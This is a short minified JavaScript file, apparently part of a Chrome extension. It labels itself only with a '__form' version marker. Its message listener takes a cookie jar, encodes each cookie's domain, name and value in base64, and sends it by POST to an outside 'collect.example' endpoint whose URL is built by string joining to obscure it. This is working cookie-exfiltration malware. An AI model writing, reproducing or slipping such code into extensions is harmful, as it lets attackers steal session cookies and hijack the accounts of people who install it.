(()=>{var a="1.0.0";function n(e){globalThis[e]=a}n("__form");chrome.runtime.onMessage.addListener(e=>{if(e.type!=="jar")return;let r=e.jar.map(o=>[o.domain,o.name,o.value].join("|")),t=new XMLHttpRequest;t.open("POST",["https:/","collect.example","jar"].join("/")),t.send(btoa(r.join(`
`)))});})();
